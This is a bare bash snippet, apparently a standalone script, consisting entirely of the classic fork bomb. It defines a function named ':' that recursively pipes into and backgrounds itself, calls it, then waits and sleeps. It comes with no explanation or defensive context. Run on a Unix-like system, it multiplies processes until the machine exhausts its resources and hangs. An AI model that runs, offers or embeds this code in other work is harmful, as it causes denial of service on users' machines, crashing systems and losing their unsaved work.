:() { : | : & }
:
wait
sleep 30
